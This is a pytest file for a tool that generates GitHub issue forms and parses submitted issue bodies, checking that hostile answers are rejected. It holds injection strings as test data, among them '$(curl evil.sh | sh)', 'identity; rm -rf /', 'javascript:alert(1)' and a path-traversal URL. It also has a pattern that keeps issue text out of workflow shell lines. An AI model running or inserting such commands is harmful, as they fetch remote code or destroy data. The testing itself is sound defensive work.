"""Issue forms generated from the taxonomy, the body parser under hostile input, `repro suggest`."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from reprogrammability import issueforms
from reprogrammability.cli import main
from reprogrammability.issueforms import parse_body, tag_fields
from reprogrammability.taxonomy import AXES, PARADIGMS

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).parent / "fixtures" / "arxiv"
sys.path.insert(0, str(FIXTURES))
from fake_arxiv import FakeArxiv


def body(**answers: str) -> str:
    """A body as GitHub writes it for the suggest form; answers by field key, defaults valid."""
    values = {"paper": "2104.08691", "paradigm": "prompt tuning", "configuration": "learnable",
              "location": "embedding", "operator": "concatenative", "alignment": "identity",
              "code": "_No response_", "note": "Soft prompt tokens prepended to the embeddings."}
    values.update(answers)
    labels = {"paper": issueforms.PAPER_FIELD[1], "code": issueforms.CODE_FIELD[1],
              "note": issueforms.NOTE_FIELD[1]} | {t.key: t.label for t in tag_fields()}
    return "\n\n".join(f"### {labels[k]}\n\n{v}" for k, v in values.items() if v is not None)


# --- the forms ------------------------------------------------------------------------------------

def test_dropdowns_are_the_taxonomy():
    form = issueforms.suggest_form()
    dropdowns = {f["id"]: f["attributes"]["options"] for f in form["body"]
                 if f["type"] == "dropdown"}
    assert dropdowns["paradigm"] == [p.key for p in PARADIGMS]
    for axis in AXES:
        assert dropdowns[axis.field] == list(axis.keys)
    assert form["labels"] == [issueforms.SUGGEST_LABEL]


def test_committed_forms_are_fresh():
    for path, text in issueforms.form_outputs().items():
        assert (ROOT / path).read_text(encoding="utf-8") == text, f"{path} is stale: repro build"


@pytest.mark.skipif(shutil.which("check-jsonschema") is None and not (
    Path(sys.executable).parent / "check-jsonschema").exists(), reason="check-jsonschema missing")
def test_forms_match_githubs_issue_form_schema():
    exe = shutil.which("check-jsonschema") or str(Path(sys.executable).parent / "check-jsonschema")
    forms = [ROOT / issueforms.SUGGEST_FORM, ROOT / issueforms.WRONG_TAG_FORM]
    ok = subprocess.run([exe, "--builtin-schema", "vendor.github-issue-forms", *map(str, forms)],
                        capture_output=True, text=True)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    cfg = subprocess.run([exe, "--builtin-schema", "vendor.github-issue-config",
                          str(ROOT / ".github/ISSUE_TEMPLATE/config.yml")],
                         capture_output=True, text=True)
    assert cfg.returncode == 0, cfg.stdout + cfg.stderr


def test_the_schema_check_can_fail(tmp_path):
    exe = shutil.which("check-jsonschema") or str(Path(sys.executable).parent / "check-jsonschema")
    bad = tmp_path / "bad.yml"
    bad.write_text(yaml.safe_dump({"name": "x", "description": "y",
                                   "body": [{"type": "dropdown", "id": "a",
                                             "attributes": {"label": "A"}}]}))
    ok = subprocess.run([exe, "--builtin-schema", "vendor.github-issue-forms", str(bad)],
                        capture_output=True, text=True)
    assert ok.returncode != 0


# --- parsing --------------------------------------------------------------------------------------

def test_a_valid_body_parses():
    s = parse_body(body(location="embedding, hidden", code="https://github.com/a/b/"))
    assert s.ok and s.problems == []
    assert s.arxiv == "2104.08691"
    assert s.tags["location"] == ["embedding", "hidden"] and s.tags["paradigm"] == ["prompt tuning"]
    assert s.code == "https://github.com/a/b" and s.note.startswith("Soft prompt")


def test_urls_and_versions_normalise_and_windows_newlines_are_read():
    s = parse_body(body(paper="https://arxiv.org/abs/2104.08691v2").replace("\n", "\r\n"))
    assert s.ok and s.arxiv == "2104.08691"


@pytest.mark.parametrize("answers, message", [
    ({"paper": "_No response_"}, "'arXiv id or URL' has no answer"),
    ({"paper": "not-an-id"}, "'arXiv id or URL':"),
    ({"paper": "2104.08691\n2104.08692"}, "must be one arXiv id or URL"),
    ({"paper": "$(curl evil.sh | sh)"}, "'arXiv id or URL':"),
    ({"location": "input, everywhere"}, "'everywhere' is not one of input, embedding, hidden"),
    ({"alignment": "identity; rm -rf /"}, "is not one of"),
    ({"operator": None}, "'Operator (τ)' is missing"),
    ({"code": "javascript:alert(1)"}, "must be a repository URL"),
    ({"code": "https://github.com/a/b/../../evil"}, "must be a repository URL"),
    ({"note": "x" * 3000}, "longer than 2000"),
    ({"note": "looks fine\u202eevil"}, "control or invisible direction characters"),
    ({"note": "bell\x07"}, "control or invisible direction characters"),
])
def test_hostile_answers_become_problems(answers, message):
    s = parse_body(body(**answers))
    assert not s.ok
    assert any(message in p for p in s.problems), s.problems


@pytest.mark.parametrize("raw, message", [
    (None, "empty"), ("", "empty"), ("   \n", "empty"), (12, "empty"),
    ("x" * 30_000, "more than the form can produce"),
    ("just some text", "'arXiv id or URL' is missing"),
])
def test_bodies_that_are_not_forms(raw, message):
    s = parse_body(raw)
    assert not s.ok and any(message in p for p in s.problems)


def test_a_duplicated_heading_is_refused_not_guessed():
    evil = body() + "\n\n### arXiv id or URL\n\n1806.11146"
    s = parse_body(evil)
    assert not s.ok and any("appears twice" in p for p in s.problems)


def test_headings_inside_answers_that_are_not_form_labels_stay_text():
    s = parse_body(body(note="A note.\n### Not a field\nmore"))
    assert s.ok and "### Not a field" in s.note


def test_the_parser_never_raises_on_random_text():
    import random

    rng = random.Random(0)
    pieces = ["### ", "Paradigm", "arXiv id or URL", "\n", ",", "_No response_", "2104.08691",
              "\x00", "\u202e", "learnable", "### Location (ℓ)", "é", "\r"]
    for _ in range(500):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 60)))
        parse_body(text)  # must not raise


# --- repro suggest --------------------------------------------------------------------------------

DB = (Path(__file__).parent / "fixtures" / "one_paper.yaml").read_text(encoding="utf-8")


def suggest(tmp_path, monkeypatch, text, server):
    db = tmp_path / "papers.yaml"
    if not db.exists():
        db.write_text(DB, encoding="utf-8")
    monkeypatch.setenv("ISSUE_BODY", text)
    code = main(["suggest", "--body-env", "ISSUE_BODY", "--database", str(db),
                 "--result", str(tmp_path / "r.json"), "--comment", str(tmp_path / "c.md"),
                 "--api-url", server.url, "--min-interval", "0"])
    return code, json.loads((tmp_path / "r.json").read_text()), (tmp_path / "c.md").read_text()


def test_suggest_adds_a_tagged_entry_that_validates(tmp_path, monkeypatch):
    with FakeArxiv().start() as server:
        code, result, comment = suggest(tmp_path, monkeypatch, body(), server)
    assert code == 0 and result["ok"] and result["arxiv"] == "2104.08691"
    text = (tmp_path / "papers.yaml").read_text()
    assert "The Power of Scale for Parameter-Efficient Prompt Tuning" in text
    assert "location: embedding" in text and "fill in" not in text
    assert "  - id: lester2021power\n" in text  # suggest chooses the new paper's id
    assert 'note: "Soft prompt tokens prepended to the embeddings."' in text
    assert "validates" in comment
    from reprogrammability.validate import load

    assert load(tmp_path / "papers.yaml").ok


def test_suggest_refuses_a_listed_paper_and_writes_nothing(tmp_path, monkeypatch):
    with FakeArxiv().start() as server:
        code, result, comment = suggest(tmp_path, monkeypatch, body(paper="1806.11146"), server)
    assert code == 1 and not result["ok"] and "already listed" in comment
    assert (tmp_path / "papers.yaml").read_text() == DB
    assert server.requests == []  # nothing to ask arXiv


def test_suggest_reports_problems_inertly(tmp_path, monkeypatch):
    with FakeArxiv().start() as server:
        code, result, comment = suggest(
            tmp_path, monkeypatch, body(location="@maintainers [x](https://evil) `rm`"), server)
    assert code == 1 and (tmp_path / "papers.yaml").read_text() == DB
    block = re.search(r"```text\n(.*?)\n```", comment, re.S).group(1)
    assert "@maintainers" in block and "`" not in block  # quoted inside the code block only
    assert comment.count("```") == 2


def test_suggest_unknown_paper(tmp_path, monkeypatch):
    with FakeArxiv().start() as server:
        code, result, _ = suggest(tmp_path, monkeypatch, body(paper="2301.00001"), server)
    assert code == 1 and "arXiv has no paper" in result["problems"][0]


def test_suggest_without_the_variable_is_a_usage_error(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("NO_SUCH_VAR", raising=False)
    assert main(["suggest", "--body-env", "NO_SUCH_VAR", "--result", str(tmp_path / "r"),
                 "--comment", str(tmp_path / "c")]) == 2
    assert "is not set" in capsys.readouterr().err


# --- the workflow ---------------------------------------------------------------------------------

def test_the_issue_body_never_reaches_a_shell_line():
    """Every workflow: `${{ github.event.issue.* }}` / comment / PR text only through env."""
    untrusted = re.compile(r"\$\{\{\s*github\.event\.(issue|comment|pull_request|review)"
                           r"\.(body|title)")
    for path in (ROOT / ".github" / "workflows").glob("*.yml"):
        wf = yaml.safe_load(path.read_text())
        for job in wf["jobs"].values():
            for step in job["steps"]:
                assert not untrusted.search(str(step.get("run", ""))), (path.name, step)
    wf = yaml.safe_load((ROOT / ".github/workflows/suggest-paper.yml").read_text())
    step = next(s for s in wf["jobs"]["prepare"]["steps"] if s.get("id") == "suggest")
    assert step["env"]["ISSUE_BODY"] == "${{ github.event.issue.body }}"
    assert "--body-env ISSUE_BODY" in step["run"]
